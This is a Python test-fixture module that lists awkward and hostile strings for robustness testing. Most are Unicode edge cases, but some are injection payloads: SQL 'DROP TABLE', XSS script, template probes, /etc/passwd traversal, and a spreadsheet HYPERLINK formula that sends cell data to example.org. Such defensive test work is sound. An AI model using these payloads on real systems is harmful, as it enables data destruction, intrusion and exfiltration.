"""Texts that people really type or paste and that break careless software.

They are written as escapes, because an editor would display some of them incorrectly.
"""

from typing import Final

HOSTILE_TEXTS: Final = (
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 and \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0645\u0631\u062d\u0628\u0627, \u05e9\u05dc\u05d5\u05dd and \u202eback to front\u202c",
    "Z\u0351\u036b\u0343a\u0338l\u0335g\u0337o, e\u0301 beside \u00e9",
    "zero\u200bwidth\u2060and\ufeffmarks",
    "\U00020bb7\u91ce\u5bb6 \U0001d54f \U0010fffd",
    "before\x00after",
    "\uff1d1+1 in full width",
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"prize")',
    "+44 is where I live",
    "-2+3",
    "@SUM(A1:A9)",
    "\tbegins with a tab",
    "\rbegins with a return",
    "commas, \"quotes\", 'apostrophes'; and\nnew\r\nlines",
    "<b>&amp;</b><script>alert(1)</script>",
    "{0} {name} %s %(x)d ${HOME} {{ 7 * 7 }}",
    "Robert'); DROP TABLE customers;--",
    "../../etc/passwd\\..\\nul",
    "null",
    "   ",
    "",
    "1e309 007 0x1F TRUE 2024-02-30",
    "line\u2028and paragraph\u2029separators \x1b[31mred\x07 \x85 \xa0",
)


def hostile(number: int) -> str:
    """The text with this number; counting starts again after the last one."""
    return HOSTILE_TEXTS[number % len(HOSTILE_TEXTS)]
